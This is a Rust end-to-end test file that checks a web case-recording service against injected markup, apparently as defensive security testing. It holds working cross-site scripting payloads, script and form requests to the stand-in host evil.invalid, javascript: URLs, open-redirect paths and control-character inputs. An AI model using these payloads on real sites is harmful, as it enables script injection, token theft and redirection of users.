//! Words that would be more than words, typed into every field: none of them
//! runs, asks for anything, or hides.

use std::collections::BTreeSet;

use serde_json::json;

use crate::chromium::Tab;
use crate::looks::linked;
use crate::people::{OURS, Office, sign};

/// Each would tell of itself by calling `ran`, or by a request that leaves.
const HOSTILE: [&str; 6] = [
    "<script>ran('script')</script><img src=//evil.invalid/a onerror=ran('img')><svg onload=ran('svg')>",
    "\" autofocus onfocus=ran('focus') x=\"' onmouseover=ran('over') '",
    "</textarea></title><script src=http://evil.invalid/b.js></script><iframe src=http://evil.invalid/c></iframe>",
    "<style>@import url(http://evil.invalid/d)</style><link rel=stylesheet href=//evil.invalid/e><base href=//evil.invalid/>",
    "javascript:ran('url') data:text/html,<script>ran('data')</script> {{constructor.constructor('ran(1)')()}}",
    "<form action=//evil.invalid/f><input name=token></form><meta http-equiv=refresh content='0;url=http://evil.invalid/g'>&lt;b&gt;",
];

/// Each is refused where people type it, with the words kept in the field.
const REFUSED: [&str; 4] =
    ["turned \u{202E}round", "isolated \u{2067}words", "a\u{1B}[2Jterminal", "n\u{0}ul"];

#[derive(Default)]
struct Watch {
    asked: BTreeSet<String>,
    wrong: Vec<String>,
}

impl Watch {
    fn begin(tab: &Tab) -> Watch {
        tab.call("Runtime.addBinding", json!({ "name": "ran" }));
        tab.said();
        Watch::default()
    }

    /// What the page did by itself since it was asked last.
    fn look(&mut self, tab: &Tab, ours: &str) {
        for said in tab.said() {
            match said.method.as_str() {
                "Runtime.bindingCalled" | "Page.javascriptDialogOpening" => {
                    self.wrong.push(format!("{}: ran {}", tab.path(), said.params));
                }
                "Network.requestWillBeSent" => {
                    let url = said.params["request"]["url"].as_str().unwrap_or_default().to_owned();
                    if !url.starts_with(ours) {
                        self.wrong.push(format!("{}: asked for {url}", tab.path()));
                    }
                    self.asked.insert(url);
                }
                // A policy that had to step in means that words became markup.
                "Log.entryAdded" if said.params["entry"]["source"] == "security" => {
                    self.wrong.push(format!("{}: {}", tab.path(), said.params["entry"]["text"]));
                }
                _ => {}
            }
        }
        let foreign = tab.eval("document.querySelectorAll('iframe, svg, img:not([src^=\"/\"]), [onerror], [onload], [onfocus], [onmouseover], base, script:not([src=\"/assets/guide.js\"]), style, main meta').length");
        if foreign != 0 {
            self.wrong.push(format!("{}: {foreign} elements that are not the guide's", tab.path()));
        }
    }

    fn none(&self) {
        assert!(self.asked.len() > 10, "{:?}", self.asked);
        assert!(self.wrong.is_empty(), "{}", self.wrong.join("\n"));
    }
}

fn every_text_field(tab: &Tab) -> Vec<String> {
    let names =
        tab.eval("[...document.querySelectorAll('main input[type=text], main textarea')].map(e => e.name)");
    names.as_array().into_iter().flatten().filter_map(|name| name.as_str().map(str::to_owned)).collect()
}

/// Sets a field as a program would that types what no keyboard types.
fn set(tab: &Tab, name: &str, value: &str) {
    let value = serde_json::to_string(value).expect("JSON");
    tab.eval(&format!("document.getElementsByName('{name}')[0].value = {value}"));
}

fn send(tab: &Tab) {
    tab.leave(|tab| drop(tab.eval("document.querySelector('main form').requestSubmit(), 0")));
}

/// Every text field of the page: refused words first, then hostile ones that
/// go through.
fn attack(office: &Office, watch: &mut Watch, also: &[(&str, &str)], turn: usize) {
    let (tab, ours) = (&office.tab, office.url("/"));
    let (page, fields) = (tab.path(), every_text_field(tab));
    assert!(!fields.is_empty(), "{page}: {}", tab.words());
    for name in &fields {
        for refused in REFUSED {
            for (other, value) in also {
                tab.fill(other, value);
            }
            for other in &fields {
                set(tab, other, "Words");
            }
            set(tab, name, refused);
            send(tab);
            watch.look(tab, &ours);
            // A browser takes a NUL out of a field or the guide refuses it.
            let stayed = tab.path() == page;
            assert!(stayed, "{page} took {refused:?} in {name}: {}", tab.words());
            tab.sees("There is a problem");
        }
    }
    for (place, name) in fields.iter().enumerate() {
        set(tab, name, HOSTILE[(turn + place) % HOSTILE.len()]);
    }
    for (other, value) in also {
        tab.fill(other, value);
    }
    send(tab);
    watch.look(tab, &ours);
}

#[test]
fn words_stay_words_in_every_field() {
    let office = Office::open();
    let (tab, ours) = (&office.tab, office.url("/"));
    let mut watch = Watch::begin(tab);
    tab.follow("Start a new case");
    tab.answer(&[("suspected", "no")]);
    let mut turn = 0;
    let case = loop {
        let path = tab.path();
        let step = path.rsplit('/').next().unwrap_or_default().to_owned();
        turn += 1;
        match step.as_str() {
            "concerned" => tab.answer(&[("concerns", "pupil")]),
            "first-passphrase" => tab.answer(&[("own", OURS[0]), ("own-again", OURS[0])]),
            "second-passphrase" => tab.answer(&[("own", OURS[1]), ("own-again", OURS[1])]),
            "check" => {
                watch.look(tab, &ours);
                tab.sees("<script>ran(");
                tab.answer(&[("first-passphrase", OURS[0]), ("second-passphrase", OURS[1])]);
                break tab.path();
            }
            statement if statement.starts_with("statement-") => tab.answer(&[(statement, "yes")]),
            _ if every_text_field(tab).is_empty() => panic!("{path}: {}", tab.words()),
            _ => attack(&office, &mut watch, &[], turn),
        }
        watch.look(tab, &ours);
        assert_ne!(tab.path(), path, "{}", tab.words());
    };
    // Every field of the pages of the case, each on record where it is taken.
    let case = case.split('?').next().expect("a path");
    let pages: [(&str, &[(&str, &str)]); 6] = [
        ("note", &[]),
        ("concern", &[]),
        ("concern/kind?at=https%3A%2F%2Fexample.org%2F", &[("category", "bullying")]),
        ("refer", &[]),
        ("judge", &[("substance", "yes")]),
        ("act", &[("route", "internal"), ("action", "taken")]),
    ];
    for (turn, (page, also)) in pages.into_iter().enumerate() {
        office.go(&format!("{case}/{page}"));
        if page == "refer" {
            let first = tab.text("document.querySelector('main a[href*=\"route=\"]').getAttribute('href')");
            office.go(&first);
        }
        attack(&office, &mut watch, also, turn);
        if tab.path().contains("/check/") {
            sign(tab, |tab| watch.look(tab, &ours));
        }
    }
    // And everything that shows them.
    for page in linked(tab, &office.url(case)) {
        tab.go(&page);
        watch.look(tab, &ours);
    }
    // What stands behind a question mark, and in the path.
    for path in [
        "/?<script>ran(1)</script>",
        "/case/<script>ran(2)<",
        "/case/2026-0001/unlock?then=//evil.invalid/",
        "/case/2026-0001/unlock?then=javascript:ran(3)",
        "/open?follows=<img src=x onerror=ran(4)>&suspected=<b>",
        "/nothing/<svg onload=ran(5)>",
    ] {
        office.go(path);
        watch.look(tab, &ours);
    }
    office.go("/");
    watch.look(tab, &ours);
    watch.none();
}

#[test]
fn more_than_an_entry_holds_is_refused_in_words() {
    let (office, case) = Office::with_case();
    let tab = &office.tab;
    for (length, words) in [(70_000, "There is a problem"), (700_000, "That is too long")] {
        office.go(&format!("{case}/note"));
        tab.eval(&format!(
            "document.getElementsByName('text')[0].value = '<b>x</b> '.repeat({})",
            length / 9
        ));
        send(tab);
        tab.sees(words);
        assert!(tab.text("document.title").len() < 200);
    }
    office.go(&case);
    tab.sees("1 entry");
}
